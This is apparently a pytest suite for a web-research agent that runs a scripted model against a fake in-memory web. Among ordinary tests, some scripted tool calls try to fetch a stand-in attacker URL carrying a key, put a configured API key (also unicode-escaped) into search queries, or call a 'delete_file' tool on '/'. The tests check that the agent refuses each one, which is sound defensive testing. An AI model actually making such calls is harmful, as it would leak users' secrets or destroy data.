"""A question becomes an answer: the loop over a scripted model and a web in memory."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable, Sequence
from typing import Any

import pytest

from nexi.app.resolve import _keep_approach
from nexi.config import Config, get_system_prompt
from nexi.errors import ContextOverflowError, LLMError, NoEvidenceError, QuestionError
from nexi.events import (
    ContextCompacted,
    LimitApplied,
    MarksDelta,
    ModelAsked,
    PageFetched,
    PrefetchEnded,
    RunFailed,
    RunFinished,
    RunStarted,
    SourceNumbered,
    TextDelta,
    ToolFinished,
    ToolStarted,
    Warned,
)
from nexi.history import get_entry_by_id
from nexi.runs.directory import RunDirectory
from nexi.runs.session import Session
from nexi.testing import FakeWeb, ScriptedLLM, answering, calling, reading, searching
from nexi.types import Message, Reply, Source, StopReason, ToolCall, Usage, content_digest
from tests.raising import has_code
from tests.scenarios.world import MARS, MOON, PAGES, QUESTION, VENUS, World

Make = Callable[..., Config]
ANSWER = "It is 384,400 km away on average [1]."


def tool_texts(world: World, request: int) -> list[dict[str, object]]:
    return [json.loads(m.content) for m in world.llm.requests[request] if m.role == "tool"]


async def test_a_question_is_searched_read_and_answered_with_its_source(make_config: Make) -> None:
    world = World(make_config(), searching("moon distance"), reading(MOON), answering(ANSWER))
    result = await world.ask()
    assert result.answer.text == ANSWER
    assert result.answer.sources == (Source(1, MOON, "Moon facts", content_digest(PAGES[MOON])),)
    assert result.answer.stop is StopReason.FINAL_ANSWER
    assert (result.finished.iterations, result.finished.model_calls) == (3, 3)


async def test_the_model_sees_the_seeds_json(make_config: Make) -> None:
    world = World(make_config(prefetch=False), searching("venus hot"), reading(VENUS), answering("Hot [1]."))
    await world.ask()
    searches, pages = tool_texts(world, 2)
    assert searches["searches"][0]["query"] == "venus hot"  # type: ignore[index]
    assert searches["searches"][0]["results"][0] == {"title": "Venus facts", "url": VENUS, "description": PAGES[VENUS]}  # type: ignore[index]
    assert pages == {"pages": [{"url": VENUS, "title": "Venus facts", "content": f"[1] {VENUS}\n---\n{PAGES[VENUS]}"}]}


async def test_facts_are_in_the_log_before_a_door_sees_them(make_config: Make) -> None:
    config = make_config()
    world = World(config, searching("moon"), reading(MOON), answering(ANSWER))
    behind: list[str] = []

    def compare(run: object, event: object) -> None:
        log = RunDirectory(config.runs_dir, config.pages_dir, world.clock).open_log(run.id)  # type: ignore[attr-defined]
        if not isinstance(event, TextDelta | MarksDelta) and event not in [fact for _, fact in log.facts]:
            behind.append(repr(event))

    await world.ask(on_event=compare)
    assert behind == []


async def test_a_run_starts_ends_once_and_every_tool_that_started_finished(make_config: Make) -> None:
    world = World(make_config(), searching("moon"), reading(MOON, MARS), answering(ANSWER))
    await world.ask()
    kinds = world.kinds()
    started = [f.call_id for f in world.facts if isinstance(f, ToolStarted)]
    finished = [f.call_id for f in world.facts if isinstance(f, ToolFinished)]
    assert (kinds[0], kinds[-1]) == ("run_started", "run_finished")
    assert [k for k in kinds if k in ("run_finished", "run_failed")] == ["run_finished"]
    assert sorted(started) == sorted(finished)


async def test_the_history_id_is_the_run_id(make_config: Make) -> None:
    config = make_config()
    world = World(config, searching("moon"), reading(MOON), answering(ANSWER))
    result = await world.ask()
    entry = get_entry_by_id(result.id, config.history_path)
    assert entry is not None
    assert (entry.query, entry.answer, entry.urls, entry.effort, entry.iterations) == (QUESTION, ANSWER, [MOON], "m", 3)
    assert RunDirectory(config.runs_dir, config.pages_dir, world.clock).open_log(result.id).header.run == result.id


async def test_the_answer_is_released_sentence_by_sentence_and_equals_the_stored_one(make_config: Make) -> None:
    text = "It is 384,400 km away on average [1]. It has no air [1].\n\n- red [9]\n- no air [1]\n"
    world = World(make_config(), searching("moon"), reading(MOON), answering(text))
    result = await world.ask()
    released = [e.text for e in world.events if isinstance(e, TextDelta)]
    assert (
        "".join(released)
        == result.answer.text
        == "It is 384,400 km away on average [1]. It has no air [1].\n\n- red\n- no air [1]"
    )
    assert len(released) >= 4


async def test_a_citation_of_an_unread_page_is_removed_aloud(make_config: Make) -> None:
    world = World(make_config(), searching("moon"), reading(MOON), answering("It has no air [1], has it [7]?"))
    result = await world.ask()
    assert result.answer.text == "It has no air [1], has it?"
    assert [f.code for f in world.facts if isinstance(f, Warned)] == ["unknown_citation"]


async def test_a_list_of_sources_written_by_the_model_is_replaced_by_ours(make_config: Make) -> None:
    text = "It has no air [1].\n\nSources:\n[1] https://invented.example/x\n"
    world = World(make_config(), searching("moon"), reading(MOON), answering(text))
    assert (await world.ask()).answer.text == "It has no air [1]."


async def test_all_tool_calls_of_a_reply_run(make_config: Make) -> None:
    calls = (
        ToolCall("a", "web_search", '{"queries": ["moon"]}'),
        ToolCall("b", "web_search", '{"queries": ["mars", "venus"]}'),
        ToolCall("c", "web_get", json.dumps({"urls": [MOON], "get_full": True})),
    )
    world = World(make_config(), Reply("", calls), answering(ANSWER))
    await world.ask(f"What does {MOON} say?")
    assert sorted(world.web.queries) == ["mars", "moon", "venus"]
    assert [m.tool_call_id for m in world.llm.requests[1] if m.role == "tool"] == ["a", "b", "c"]


async def test_thirty_tool_calls_all_get_a_result(make_config: Make) -> None:
    calls = tuple(ToolCall(f"c{i}", "web_search", json.dumps({"queries": [f"moon {i}"]})) for i in range(30))
    world = World(make_config(), Reply("", calls), reading(MOON), answering(ANSWER))
    await world.ask()
    assert [m.tool_call_id for m in world.llm.requests[1] if m.role == "tool"] == [c.id for c in calls]


async def test_a_tool_starts_as_soon_as_its_arguments_are_complete(make_config: Make) -> None:
    order: list[str] = []

    class Slow(FakeWeb):
        async def search(self, query: object) -> list[object]:  # type: ignore[override]
            order.append("search")
            return await super().search(query)  # type: ignore[arg-type,return-value]

    world = World(make_config(), answering(ANSWER), web=Slow(PAGES))
    session = Session()

    class Streaming(type(world.llm)):  # type: ignore[misc]
        async def complete(self, messages: object, tools: object = (), *, on_call: object = None, **rest: object) -> Reply:
            if any(m.role == "tool" for m in messages):  # type: ignore[attr-defined]
                return await super().complete(messages, tools, on_call=on_call, **rest)  # type: ignore[no-any-return]
            call = ToolCall("early", "web_search", '{"queries": ["moon"]}')
            read = ToolCall("read", "web_get", json.dumps({"urls": [MOON], "get_full": True}))
            on_call(call)  # type: ignore[operator]
            for _ in range(200):
                await asyncio.sleep(0)
                if order:
                    break
            order.append("reply ends")
            return Reply("", (call, read))

    world.roles["answer"] = Streaming(*world.llm.steps)
    await world.ask(f"Read {MOON}", session=session)
    assert order == ["search", "reply ends"]


async def test_an_unknown_tool_is_an_error_result_for_the_model(make_config: Make) -> None:
    world = World(make_config(), calling("delete_file", path="/"), searching("moon"), reading(MOON), answering(ANSWER))
    await world.ask()
    assert tool_texts(world, 1) == [
        {"error": "there is no tool called 'delete_file'; the tools are web_search, web_get, final_answer"}
    ]


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        ('{"queries": []}', "queries"),
        ('{"queries": ["a","b","c","d","e","f"]}', "queries"),
        ('{"querys": ["a"]}', "queries"),
        ("no json at all", "not JSON"),
        ("", "queries"),
        ("[1, 2]", "object"),
    ],
)
async def test_bad_arguments_are_an_error_result_for_the_model(make_config: Make, arguments: str, words: str) -> None:
    bad = Reply("", (ToolCall("x", "web_search", arguments),))
    world = World(make_config(), bad, searching("moon"), reading(MOON), answering(ANSWER))
    result = await world.ask()
    assert words in str(tool_texts(world, 1)[0]["error"])
    assert result.answer.text == ANSWER


async def test_a_url_that_came_from_nowhere_is_refused(make_config: Make) -> None:
    made_up = "https://attacker.example/collect?key=secret"
    world = World(make_config(), searching("moon"), reading(made_up, MOON), answering(ANSWER))
    await world.ask()
    pages = tool_texts(world, 2)[1]["pages"]
    assert "refused" in pages[0]["error"]  # type: ignore[index]
    assert made_up not in world.web.fetched


async def test_a_known_url_with_something_added_is_refused(make_config: Make) -> None:
    world = World(make_config(), searching("moon"), reading(MOON + "?utm_source=secret", MOON), answering(ANSWER))
    await world.ask()
    assert world.web.fetched == [MOON, *[u for u in world.web.fetched if u != MOON]]
    assert all("secret" not in u for u in world.web.fetched)


async def test_urls_of_the_user_and_links_of_read_pages_may_be_read(make_config: Make) -> None:
    web = FakeWeb(PAGES, links={MOON: [MARS]})
    world = World(make_config(), reading(MOON), reading(MARS), answering("No air [1]. Two moons [2]."), web=web)
    result = await world.ask(f"What does {MOON} link to?")
    assert [s.url for s in result.session.book.sources] == [MOON, MARS]


async def test_a_configured_key_in_the_arguments_is_refused(make_config: Make) -> None:
    leak = searching("moon sk-very-secret-key")
    world = World(make_config(api_key="sk-very-secret-key"), leak, searching("moon"), reading(MOON), answering(ANSWER))
    await world.ask()
    assert world.web.queries == ["moon"]


async def test_a_configured_key_that_is_spelled_with_escapes_is_refused_too(make_config: Make) -> None:
    spelled = "".join(f"\\u{ord(letter):04x}" for letter in "sk-very-secret-key")
    leak = Reply("", tool_calls=(ToolCall("1", "web_search", f'{{"queries": ["moon {spelled}"]}}'),))
    world = World(make_config(api_key="sk-very-secret-key"), leak, searching("moon"), reading(MOON), answering(ANSWER))
    await world.ask()
    assert world.web.queries == ["moon"]


async def test_the_last_answer_gets_the_time_that_a_model_call_may_take(make_config: Make) -> None:
    world = World(make_config(llm_timeout=900, time_target=None), searching("moon"), reading(MOON), Reply("It has no air [1]."))
    await world.ask(max_iterations=2)
    assert world.llm.deadlines[-1] == world.clock.monotonic() + 900


async def test_an_answer_without_evidence_is_refused_when_nothing_can_be_read(make_config: Make) -> None:
    world = World(make_config(), answering("I just know it."), answering("I still know it."), web=FakeWeb({}))
    with pytest.raises(NoEvidenceError) as caught:
        await world.ask()
    assert caught.value.exit_code == 5
    assert [e for e in world.events if isinstance(e, TextDelta)] == []


async def test_a_model_told_to_read_first_may_mend_its_way(make_config: Make) -> None:
    world = World(make_config(), Reply("I just know it."), searching("moon"), reading(MOON), answering(ANSWER))
    _keep_approach(world.config, "tools")
    assert (await world.ask()).answer.text == ANSWER


async def test_plain_text_after_reading_is_the_answer(make_config: Make) -> None:
    world = World(make_config(), searching("moon"), reading(MOON), Reply(ANSWER))
    result = await world.ask()
    assert (result.answer.text, result.answer.stop) == (ANSWER, StopReason.PLAIN_ANSWER)


async def test_the_iteration_limit_forces_an_answer_with_a_warning(make_config: Make) -> None:
    world = World(make_config(), searching("moon"), reading(MOON), Reply("It has no air [1]."))
    result = await world.ask(max_iterations=2)
    assert (result.answer.text, result.answer.stop) == ("It has no air [1].", StopReason.MAX_ITERATIONS)
    assert "iteration limit" in result.answer.warnings[0]
    assert world.llm.offered[-1] == ()


async def test_a_limit_before_any_page_is_an_error_that_says_so(make_config: Make) -> None:
    world = World(make_config(), searching("moon"), web=FakeWeb({}))
    with pytest.raises(NoEvidenceError):
        await world.ask(max_iterations=1)
    assert [f.stop for f in world.facts if isinstance(f, LimitApplied)] == [StopReason.MAX_ITERATIONS]


async def test_the_time_target_forces_an_answer(make_config: Make) -> None:
    world = World(make_config(), searching("moon"))

    def slow_read(messages: object) -> Reply:
        world.clock.advance(30)
        return reading(MOON)

    world.llm.steps += [reading(MOON), lambda m: (world.clock.advance(60), searching("mars"))[1], Reply("It has no air [1].")]
    result = await world.ask(time_target=50)
    assert (result.answer.text, result.answer.stop) == ("It has no air [1].", StopReason.TIME_TARGET)


async def test_a_model_that_fails_after_reading_leaves_an_answer_from_passages(make_config: Make) -> None:
    world = World(make_config(), searching("moon"), reading(MOON), LLMError("the model failed", code="server"))
    result = await world.ask()
    assert result.answer.stop is StopReason.API_ERROR
    assert "384,400 km" in result.answer.text
    assert "[1]" in result.answer.text
    assert any("without a model" in w for w in result.answer.warnings)


async def test_a_model_that_fails_before_reading_is_an_error(make_config: Make) -> None:
    world = World(make_config(), LLMError("the key was refused", code="auth", fix="check api_key"))
    with pytest.raises(LLMError, check=has_code("auth")) as caught:
        await world.ask()
    assert (caught.value.code, caught.value.fix) == ("auth", "check api_key")
    assert isinstance(world.facts[-1], RunFailed)


async def test_a_stop_yields_what_was_read(make_config: Make) -> None:
    world = World(make_config(), searching("moon"), reading(MOON), searching("more"), searching("even more"))

    def stop_late(run: object, event: object) -> None:
        if isinstance(event, ModelAsked) and event.call == 3:
            run.stop()  # type: ignore[attr-defined]

    result = await world.ask(on_event=stop_late)
    assert result.answer.stop is StopReason.CANCELLED
    assert "384,400 km" in result.answer.text


async def test_leaving_the_block_cancels_the_run_and_ends_its_log(make_config: Make) -> None:
    config = make_config()
    world = World(config, searching("moon"), reading(MOON), answering(ANSWER))
    async with world.nexi() as nexi, nexi.search(QUESTION) as run:
        async for event in run:
            if isinstance(event, ToolStarted):
                break
    log = RunDirectory(config.runs_dir, config.pages_dir, world.clock).open_log(run.id)
    last = log.facts[-1][1]
    assert isinstance(last, RunFailed)
    assert (last.code, last.stop) == ("cancelled", StopReason.CANCELLED)
    assert [t for t in asyncio.all_tasks() if t is not asyncio.current_task()] == []


async def test_follow_ups_share_numbers_pages_and_the_conversation(make_config: Make) -> None:
    session = Session()
    first = World(make_config(), searching("moon"), reading(MOON), answering(ANSWER))
    await first.ask(session=session)
    second = World(make_config(), reading(MOON, VENUS), answering("The Moon has no air, and Venus has no moons [1][2]."))
    result = await second.ask(f"And {VENUS}?", session=session)
    assert result.answer.text == "The Moon has no air, and Venus has no moons [1][2]."
    assert [s.number for s in session.book.sources] == [1, 2]
    assert MOON not in second.web.fetched
    assert [m.content for m in second.llm.requests[0] if m.role == "user"] == [QUESTION, f"And {VENUS}?"]


async def test_a_follow_up_is_told_its_own_effort_and_day(make_config: Make) -> None:
    session = Session()
    await World(make_config(), searching("moon"), reading(MOON), answering(ANSWER)).ask(session=session)
    second = World(make_config(), answering("It has no air [1]."))
    await second.ask("How far?", session=session, effort="l")
    system = [m.content for m in second.llm.requests[0] if m.role == "system"]
    assert system == [get_system_prompt("l", today=second.clock.now().date().isoformat(), config=make_config())]


async def test_a_system_message_of_the_caller_stays(make_config: Make) -> None:
    session = Session([Message("system", "Answer in rhymes.")])
    world = World(make_config(), searching("moon"), reading(MOON), answering(ANSWER))
    await world.ask(session=session)
    assert [m.content for m in world.llm.requests[0] if m.role == "system"] == ["Answer in rhymes."]


async def test_the_best_hits_are_read_ahead_and_the_unused_are_reported(make_config: Make) -> None:
    class PatientLLM(ScriptedLLM):
        """Answers once three pages were read ahead, however slow the disk is."""

        async def complete(self, messages: Sequence[Message], *rest: Any, **options: Any) -> Reply:
            while len(self.steps) == 1 and sum(isinstance(f, PageFetched) for f in world.facts) < 3:
                await asyncio.sleep(0)
            return await super().complete(messages, *rest, **options)

    web = FakeWeb({**PAGES, **{f"https://moon.example/{i}": f"Moon page {i}" for i in range(5)}})
    world = World(make_config(), web=web, answer=PatientLLM(searching("moon"), reading(MOON), answering(ANSWER)))
    await world.ask()
    ahead = [f.url for f in world.facts if isinstance(f, PageFetched) and f.ahead]
    ended = next(f for f in world.facts if isinstance(f, PrefetchEnded))
    assert len(ahead) == 3
    assert ended.used + len(ended.unused) == 3
    assert [f.source.url for f in world.facts if isinstance(f, SourceNumbered)] == [MOON]
    assert len(web.fetched) == len(set(web.fetched))


async def test_reading_ahead_can_be_turned_off(make_config: Make) -> None:
    world = World(make_config(prefetch=False), searching("moon"), reading(MOON), answering(ANSWER))
    await world.ask()
    assert world.web.fetched == [MOON]


async def test_reading_ahead_leaves_the_last_fifth_of_the_page_budget(make_config: Make) -> None:
    web = FakeWeb({**PAGES, **{f"https://moon.example/{i}": f"Moon page {i}" for i in range(5)}})
    world = World(make_config(max_pages=2), searching("moon"), reading(VENUS), answering("Hot [1]."), web=web)
    await world.ask(f"moon {VENUS}")
    assert len([f for f in world.facts if isinstance(f, PageFetched) and f.ahead]) == 1
    assert VENUS in web.fetched


async def test_a_page_that_cannot_be_read_is_told_to_the_model(make_config: Make) -> None:
    gone = "https://moon.example/gone"
    world = World(make_config(), reading(gone, MOON), answering(ANSWER))
    await world.ask(f"Read {gone} and {MOON}")
    pages = tool_texts(world, 1)[0]["pages"]
    assert pages[0] == {"url": gone, "content": "", "error": "error: the page does not exist"}  # type: ignore[index]


async def test_pages_are_summarised_by_default_and_cut_when_the_extract_model_fails(make_config: Make) -> None:
    long = "Moon facts\n\n" + "The Moon is far away. " * 400
    web = FakeWeb({MOON: long, MARS: PAGES[MARS]})
    extractor = World(make_config()).llm

    def only_mars(messages: Sequence[Message]) -> Reply:
        if "Phobos" in messages[-1].content:
            return Reply("Summary: far.")
        raise LLMError("down", code="server")

    extractor.steps = [only_mars, only_mars]
    get = calling("web_get", urls=[MARS, MOON], instructions="the distance")
    world = World(make_config(prefetch=False), get, answering("Far [2]."), web=web, extract=extractor)
    await world.ask(f"{MARS} {MOON}")
    texts = [p["content"].partition("\n---\n")[2] for p in tool_texts(world, 1)[0]["pages"]]  # type: ignore[index, attr-defined]
    assert texts == ["Summary: far.", long[:2000]]
    assert "the distance" in extractor.requests[0][0].content


async def test_chunks_come_back_word_for_word(make_config: Make) -> None:
    paragraphs = [f"Paragraph {i}. " + "word " * 380 for i in range(5)]
    web = FakeWeb({MOON: "\n\n".join(paragraphs)})
    extractor = World(make_config()).llm
    extractor.steps = [Reply('{"pick": [3, 1]}')]
    world = World(
        make_config(),
        calling("web_get", urls=[MOON], use_chunks=True),
        answering("It has no air [1]."),
        web=web,
        extract=extractor,
    )
    await world.ask(f"Read {MOON}")
    text = tool_texts(world, 1)[0]["pages"][0]["content"].partition("\n---\n")[2]  # type: ignore[index]
    assert text == f"{paragraphs[1]}\n\n{paragraphs[3]}"


async def test_a_token_budget_ends_in_an_answer(make_config: Make) -> None:
    world = World(make_config(max_tokens=30_000, max_output_tokens=1000), searching("moon"), reading(MOON))
    world.llm.steps.append(Reply("", (ToolCall("x", "web_search", '{"queries": ["mars"]}'),), Usage(29_900, 50)))
    result = await world.ask()
    assert result.answer.stop is StopReason.BUDGET_SPENT
    assert "[1]" in result.answer.text


@pytest.mark.parametrize("question", ["", "   ", "\x00\x07", "\n"])
async def test_an_empty_question_is_refused_with_a_fix(make_config: Make, question: str) -> None:
    world = World(make_config())
    with pytest.raises(QuestionError, check=has_code("question")) as caught:
        await world.ask(question)
    assert caught.value.fix


async def test_a_question_of_a_megabyte_is_refused_and_nothing_is_sent(make_config: Make) -> None:
    world = World(make_config())
    with pytest.raises(QuestionError, check=has_code("question", "1,000,000")):
        await world.ask("a" * 1_000_000)
    assert world.llm.requests == []


async def test_control_characters_and_stray_bytes_are_cleaned_from_a_question(make_config: Make) -> None:
    world = World(make_config(), searching("moon"), reading(MOON), answering(ANSWER))
    await world.ask(b"How \x1b[31mfar\xff?".decode("utf-8", "surrogateescape"))
    assert next(f for f in world.facts if isinstance(f, RunStarted)).query == "How [31mfar\ufffd?"


async def test_a_search_without_hits_says_which_backend_and_why(make_config: Make) -> None:
    world = World(make_config(), searching("xyzzy"), answering("nothing"), answering("nothing"), web=FakeWeb({}))
    with pytest.raises(NoEvidenceError, check=has_code("no_evidence", "found nothing")):
        await world.ask()


async def test_a_broken_stream_goes_on_with_the_calls_that_had_arrived(make_config: Make) -> None:
    world = World(make_config(), reading(MOON), answering(ANSWER))

    class Breaking(type(world.llm)):  # type: ignore[misc]
        async def complete(self, messages: object, tools: object = (), *, on_call: object = None, **rest: object) -> Reply:
            if not any(m.role == "tool" for m in messages):  # type: ignore[attr-defined]
                on_call(ToolCall("half", "web_search", '{"queries": ["moon"]}'))  # type: ignore[operator]
                raise LLMError("the stream closed", code="stream_closed")
            return await super().complete(messages, tools, on_call=on_call, **rest)  # type: ignore[no-any-return]

    world.roles["answer"] = Breaking(*world.llm.steps)
    result = await world.ask()
    assert result.answer.text == ANSWER
    assert any("stream closed" in w for w in result.answer.warnings)


async def test_a_request_larger_than_the_window_is_never_sent(make_config: Make) -> None:
    config = make_config(max_context=8000, max_output_tokens=1000)
    big = FakeWeb({MOON: "Moon facts. " + "The Moon is very far away from here, they say. " * 4000})
    world = World(config, *[reading(MOON) for _ in range(3)], web=big)
    world.llm.steps += [Reply("A summary of findings.")] * 8
    await world.ask(f"Read {MOON}", max_iterations=6)
    from nexi.token_counter import TokenCounter

    counter = TokenCounter("cl100k_base")
    assert max(counter.count_messages(request) for request in world.llm.requests) <= 8000


async def test_the_system_prompt_carries_the_date_and_can_be_overridden_by_file(make_config: Make) -> None:
    config = make_config()
    world = World(config, searching("moon"), reading(MOON), answering(ANSWER))
    await world.ask()
    assert "2026-01-02" in world.llm.requests[0][0].content
    config.prompts_dir.mkdir(parents=True)
    (config.prompts_dir / "read_first.md").write_text("READ FIRST, PLEASE", encoding="utf-8")
    _keep_approach(config, "tools")
    again = World(config, Reply("No."), searching("moon"), reading(MOON), answering(ANSWER))
    await again.ask()
    assert Message("user", "READ FIRST, PLEASE") in again.llm.requests[1]


async def test_the_terminal_fact_carries_the_result(make_config: Make) -> None:
    world = World(make_config(prefetch=False), searching("moon"), reading(MOON), answering(ANSWER))
    await world.ask()
    last = world.facts[-1]
    assert isinstance(last, RunFinished)
    assert last == RunFinished(
        answer=ANSWER,
        sources=(Source(1, MOON, "Moon facts", content_digest(PAGES[MOON])),),
        stop=StopReason.FINAL_ANSWER,
        iterations=3,
        usage=Usage(300, 30, cost=0.0),
        seconds=0.0,
        pages=1,
        model_calls=3,
        warnings=(),
        answered="yes",
    )


async def test_a_smaller_window_is_learnt_from_the_server_that_refused(make_config: Make) -> None:
    refused = ContextOverflowError("the request is too long")
    refused.window = 6000
    world = World(make_config(), searching("moon"), refused, reading(MOON), answering(ANSWER))
    result = await world.ask()
    assert result.answer.text == ANSWER
    assert any("window of 6000 tokens" in w for w in result.answer.warnings)


async def test_a_long_conversation_is_compacted_and_the_search_goes_on(make_config: Make) -> None:
    urls = [f"https://moon.example/{i}" for i in range(6)]
    web = FakeWeb(
        {u: f"Moon page {i}. " + "The Moon is far away from here, they say again and again. " * 200 for i, u in enumerate(urls)}
    )
    config = make_config(max_context=12_000, max_output_tokens=500, preserve_last_n_messages=1)

    def read_or_sum(messages: Sequence[Message]) -> Reply:
        if "PRESERVE EXACTLY" in messages[-1].content:
            return Reply("Everything says it is far [1][2].")
        done = sum(m.role == "assistant" for m in messages)
        return (
            reading(urls[len(world.session.book.sources)])
            if done < 9 and len(world.session.book.sources) < 5
            else answering("The Moon is far away from here [1].")
        )

    world = World(config, *[read_or_sum] * 20, web=web)
    world.session = Session()
    result = await world.ask(" ".join(urls), session=world.session)
    compacted = [f for f in world.facts if isinstance(f, ContextCompacted)]
    assert result.answer.text == "The Moon is far away from here [1]."
    assert compacted
    assert all(f.ok and f.tokens_after < f.tokens_before for f in compacted)
    assert any("Findings:" in m.content for m in world.llm.requests[-1])
